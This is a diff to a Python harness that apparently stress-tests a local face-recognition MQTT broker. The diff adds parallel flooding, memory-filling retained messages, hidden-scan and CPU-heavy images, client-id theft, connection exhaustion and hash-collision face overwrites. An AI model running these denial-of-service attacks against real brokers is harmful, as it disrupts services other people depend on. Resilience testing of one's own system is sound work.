@@ -8,11 +8,12 @@ import argparse
 import random
 import resource
 import socket
+import sys
 import threading
 from collections.abc import Callable, Iterable, Iterator
 from contextlib import ExitStack, contextmanager, suppress
 from dataclasses import dataclass, replace
-from itertools import count, cycle
+from itertools import count, cycle, repeat
 from pathlib import Path
 
 import paho.mqtt.client as paho
@@ -31,8 +32,11 @@ EDGE = "hostile"
 GROUPS = ("face-app", "face_app", "faces", "group", "shared", "subscriber", "subscribers", "subscriber-1", EDGE)
 """Names that an attacker would guess for the group of the subscribers; the first is the default of the setting."""
 CLIENT_IDS = ("subscriber-subscriber-1", "subscriber-subscriber-2", "subscriber-1", "subscriber-2", "jetson", "health")
+BEGUN = "the attack has begun"
 SESSIONS = 30
 """Sessions of the attack on the group. Mosquitto gives each session a turn."""
+SENDERS = 4
+"""Clients that publish side by side."""
 CONNECTIONS = 1500
 """Silent connections: more than the 1,024 files that a container may have open by default."""
 LONGEST = 0xFFFFFFFE
@@ -42,6 +46,15 @@ SIDE, SCANS = 7000, 50
 COLLIDING = Path(__file__).with_name("colliding.jpg")
 """A valid face of the attacker. `TAILS` follow its end: the SHA-256 of both files begin with the same 12 digits."""
 TAILS = ((9_242_871).to_bytes(4, "big"), (9_885_216).to_bytes(4, "big"))
+
+
+@dataclass(frozen=True)
+class Message:
+    """Contains one publication of an attacker."""
+
+    topic: str
+    payload: bytes
+    retain: bool = False
 
 
 @dataclass(frozen=True)
@@ -83,6 +96,12 @@ class Target:
             client.loop_stop()
 
 
+def begin() -> None:
+    """Report that the attack acts from now on."""
+    sys.stdout.write(f"{BEGUN}\n")
+    sys.stdout.flush()
+
+
 Attack = Callable[[Target, threading.Event], None]
 
 
@@ -94,11 +113,13 @@ def share_group(target: Target, stop: threading.Event) -> None:
             for topic in ("face_app/#", "face_app/+/+", "#"):
                 client.subscribe([(f"$share/{group}/{topic}", 1) for group in GROUPS])
             client.subscribe([("face_app/#", 1), ("$SYS/#", 1)])
+        begin()
         stop.wait()
 
 
 def steal_client_ids(target: Target, stop: threading.Event) -> None:
     """Connect with the client ids of others, which ends their connections."""
+    begin()
     for name in cycle(CLIENT_IDS):
         with target.client(name, seconds=1):
             if stop.wait(0.05):
@@ -107,33 +128,40 @@ def steal_client_ids(target: Target, stop: threading.Event) -> None:
 
 def send_hidden_scans(target: Target, stop: threading.Event) -> None:
     """Send small files with scans behind a marker, which a parser of segments may not see."""
-    _flood(target, stop, [_face(hidden_scans(marker, 400, SIDE), 1) for marker in (0xD0, 0x01)], every=0.5)
+    images = [hidden_scans(marker, 400, SIDE) for marker in (0xD0, 0x01, 0x00)]
+    _flood(target, stop, lambda sender: _faces(cycle(images), sender), every=0.5)
 
 
 def send_heavy_images(target: Target, stop: threading.Event) -> None:
     """Send valid images that cost seconds of a core each."""
     image = scans(SCANS, SIDE)
-    _flood(target, stop, (_face(image, number) for number in count(1)), every=0.2)
+    _flood(target, stop, lambda sender: _faces(repeat(image), sender), every=0.5)
 
 
 def fill_memory(target: Target, stop: threading.Event) -> None:
-    """Send large messages, retained ones on many topics, and states on topics of many levels."""
-    large = bytes(random.Random(0).randbytes(5_000_000))
+    """Send large messages, retained ones on ever new topics, and states on topics of many levels."""
+    large = random.Random(0).randbytes(5_000_000)
     deep = "/".join("a" * 100)
-    with target.client() as client:
+
+    def messages(sender: int) -> Iterator[Message]:
         for number in count():
-            client.publish(f"face_app/{EDGE}/camera-{number % 500}", large[: number % 20 << 16], qos=1, retain=True)
-            client.publish(f"status/{EDGE}/{number}", large[:10_000], qos=1, retain=True)
-            client.publish(f"status/{EDGE}/{number}/{deep}", b"1", qos=1, retain=True)
-            _wait(client.publish(f"face_app/{EDGE}/door", large[number % 256 :], qos=1))
-            if stop.wait(0.05):
-                return
+            yield Message(f"face_app/{EDGE}/camera-{sender}-{number}", large[: 1_000_000 + number], retain=True)
+            yield Message(f"status/{EDGE}/camera-{sender}-{number}", large[:10_000], retain=True)
+            yield Message(f"status/{EDGE}/{sender}/{number}/{deep}", b"1", retain=True)
+            yield Message(f"face_app/{EDGE}/door", large[number % 256 :])
+
+    _flood(target, stop, messages, every=0.01)
 
 
 def flood_quarantine(target: Target, stop: threading.Event) -> None:
     """Send many files that are no images."""
-    chance = random.Random(0)
-    _flood(target, stop, (chance.randbytes(chance.choice([100, 20_000, 500_000])) for _ in count()), every=0)
+
+    def messages(sender: int) -> Iterator[Message]:
+        chance = random.Random(sender)
+        while True:
+            yield Message(f"face_app/{EDGE}/door", chance.randbytes(chance.choice([100, 100, 20_000, 500_000])))
+
+    _flood(target, stop, messages, every=0)
 
 
 def connect_silently(target: Target, stop: threading.Event) -> None:
@@ -147,6 +175,7 @@ def connect_silently(target: Target, stop: threading.Event) -> None:
             for _ in range(CONNECTIONS - len(connections)):
                 with suppress(OSError):
                     connections.append(socket.create_connection(("127.0.0.1", target.port), timeout=0.2))
+            begin()
             if stop.wait(0.2):
                 return
     finally:
@@ -157,7 +186,8 @@ def connect_silently(target: Target, stop: threading.Event) -> None:
 def overwrite_own_faces(target: Target, stop: threading.Event) -> None:
     """Send two files of one face whose keys are equal, in turn."""
     face = COLLIDING.read_bytes()
-    _flood(target, stop, cycle([face + tail for tail in TAILS]), every=0.5)
+    files = [Message(f"face_app/{EDGE}/door", face + tail) for tail in TAILS]
+    _flood(target, stop, lambda sender: cycle(files), every=0.5)
 
 
 ATTACKS: dict[str, Attack] = {
@@ -183,24 +213,33 @@ def attack_at_random(target: Target, stop: threading.Event, chance: random.Rando
         thread.join()
 
 
-def _face(image: bytes, sequence: int) -> bytes:
-    """Return an image with the metadata of a face of the attacker."""
+def _faces(images: Iterable[bytes], sender: int) -> Iterator[Message]:
+    """Yield images with the metadata of faces of the attacker, each with a number of its own."""
     face = drawn_face(1, edge=EDGE)
-    return write_metadata(image, FaceId("0badcafe", sequence), replace(face.metadata, track=sequence))
+    for number, image in enumerate(images, 1):
+        metadata = replace(face.metadata, track=number)
+        yield Message(face.topic, write_metadata(image, FaceId(f"{sender:08x}", number), metadata))
 
 
-def _flood(target: Target, stop: threading.Event, payloads: Iterable[bytes], *, every: float) -> None:
-    """Publish payloads as fast as the broker acknowledges them; `every` adds a pause."""
-    with target.client() as client:
-        for payload in payloads:
-            _wait(client.publish(f"face_app/{EDGE}/door", payload, qos=1))
-            if stop.wait(every):
-                return
+def _flood(
+    target: Target, stop: threading.Event, messages: Callable[[int], Iterable[Message]], *, every: float
+) -> None:
+    """Let several clients publish, each as fast as the broker acknowledges; `every` adds a pause."""
 
+    def send(sender: int) -> None:
+        with target.client() as client:
+            for message in messages(sender):
+                with suppress(ValueError, RuntimeError):  # the queue is full, or there is no connection
+                    client.publish(message.topic, message.payload, 1, message.retain).wait_for_publish(5)
+                if stop.wait(every):
+                    return
 
-def _wait(message: paho.MQTTMessageInfo) -> None:
-    with suppress(ValueError, RuntimeError):  # the queue is full, or there is no connection
-        message.wait_for_publish(5)
+    begin()
+    threads = [threading.Thread(target=send, args=(sender,)) for sender in range(SENDERS)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
 
 
 def _is_open(connection: socket.socket) -> bool:
